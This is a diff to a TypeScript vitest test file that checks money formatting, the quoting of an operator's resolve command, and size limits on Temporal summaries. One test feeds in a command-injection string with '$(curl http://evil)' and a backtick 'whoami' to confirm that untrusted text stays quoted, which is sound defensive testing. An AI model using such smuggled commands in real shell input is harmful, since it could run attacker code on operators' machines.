@@ -1,7 +1,8 @@
-import { formatAmount, minorUnitDigits } from '@countermand/contracts'
+import { cancelRequested, formatAmount, minorUnitDigits } from '@countermand/contracts'
+import { type Filling, fillings, largest } from '@countermand/testing'
 import { describe, expect, test } from 'vitest'
 import { request } from '../../testing/world.ts'
-import { askedFor, moment, money, resolveCommand } from './words.ts'
+import { askedFor, moment, money, resolveCommand, summarized } from './words.ts'
 
 describe('money', () => {
   test.each([
@@ -44,4 +45,17 @@ test('what was asked for is told once, at the start', () => {
 test('what strangers wrote is one word in the command that an operator copies', () => {
   const rogue = 'x --by a; $(curl http://evil) `whoami` #'
   expect(resolveCommand(rogue, 'retry')).toContain(`resolve '${rogue}' --decision retry`)
+})
+
+test('what was asked for, and every summary, is as long as Temporal takes it, however long the ids are', () => {
+  const jsonBytes = (text: string) => Buffer.byteLength(JSON.stringify(text))
+  const names = Object.keys(fillings).filter((name): name is Filling => Object.hasOwn(fillings, name))
+  for (const filling of names) {
+    const asked = cancelRequested.parse(largest(cancelRequested, filling).value)
+    expect(jsonBytes(askedFor(asked))).toBeLessThan(20_000)
+    expect(askedFor(asked)).toContain('refund to store-credit')
+    const { orderId, requestId } = asked
+    expect(jsonBytes(summarized(`Cancel ${orderId}: waits for request ${requestId}`))).toBeLessThan(400)
+  }
+  expect(summarized('Cancel ord-1: other (customer)')).toBe('Cancel ord-1: other (customer)')
 })
